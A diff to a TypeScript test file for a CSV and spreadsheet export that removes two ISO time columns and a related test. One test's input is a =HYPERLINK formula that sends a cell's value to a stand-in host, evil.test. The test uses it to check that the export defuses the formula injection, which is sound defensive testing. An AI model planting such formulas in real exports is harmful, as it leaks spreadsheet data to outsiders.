@@ -53,20 +53,20 @@ describe('CSV export', () => {
     const ids = lines.slice(1).map((line) => cells(line)[2]!);
     expect(ids).toEqual(hostile.map((id) => `'${id}`));
     for (const line of lines.slice(1)) expect(line.split(',')[2]!.startsWith(`"'`)).toBe(true);
-    expect(lines[1]).toBe(`1,ws-raw,"'=HYPERLINK(""http://evil.test/?""&A1,""click me"")",1000.500,1000,0.500,true,1970-01-01T00:00:01.000Z,1970-01-01T00:00:01.000Z`);
+    expect(lines[1]).toBe(`1,ws-raw,"'=HYPERLINK(""http://evil.test/?""&A1,""click me"")",1000.500,1000,0.500,true`);
   });
 
   it('keeps numbers numbers, a negative latency included, and leaves harmless text alone', () => {
     const csv = buildCsv([sample('k1-2', { seq: 7, latencyMs: -1.25, receivedAt: 999.75, serverTime: 1001 }), sample(null)]);
     const [, first, second] = csv.trimEnd().split('\n');
-    expect(first).toBe('7,ws-raw,k1-2,999.750,1001,-1.250,true,1970-01-01T00:00:00.999Z,1970-01-01T00:00:01.001Z');
-    expect(cells(first!).map((c) => Number(c))).toEqual([7, NaN, NaN, 999.75, 1001, -1.25, NaN, NaN, NaN]);
-    expect(second).toBe('1,ws-raw,,1000.500,1000,0.500,true,1970-01-01T00:00:01.000Z,1970-01-01T00:00:01.000Z');
+    expect(first).toBe('7,ws-raw,k1-2,999.750,1001,-1.250,true');
+    expect(cells(first!).map((c) => Number(c))).toEqual([7, NaN, NaN, 999.75, 1001, -1.25, NaN]);
+    expect(second).toBe('1,ws-raw,,1000.500,1000,0.500,true');
   });
 
   it('still quotes commas, quotes and line breaks in ordinary text', () => {
     const csv = buildCsv([sample('a,"b"\nc')]);
-    expect(csv).toBe(`${CSV_HEADER.join(',')}\n1,ws-raw,"a,""b""\nc",1000.500,1000,0.500,true,1970-01-01T00:00:01.000Z,1970-01-01T00:00:01.000Z\n`);
+    expect(csv).toBe(`${CSV_HEADER.join(',')}\n1,ws-raw,"a,""b""\nc",1000.500,1000,0.500,true\n`);
   });
 });
 
@@ -250,11 +250,5 @@ describe('the spreadsheet export (.xlsx)', () => {
     expect(latency).toHaveLength(20_001);
     expect(latency.at(-1)!.slice(0, 4)).toEqual([20_000, 'ws-raw', 'k-19999', new Date(START + 19_999 * 50).toISOString()]);
     console.log(`[export] 20,000 samples: ${blob.size} bytes of .xlsx in ${Math.round(performance.now() - started)} ms`);
-  });
-
-  it('the CSV carries ISO times too', () => {
-    const csv = buildCsv([sample('k', { receivedAt: START + 1.5, serverTime: START })]);
-    const row = cells(csv.trimEnd().split('\n')[1]!);
-    expect(row.slice(-2)).toEqual(['2025-03-14T09:30:00.001Z', '2025-03-14T09:30:00.000Z']);
   });
 });
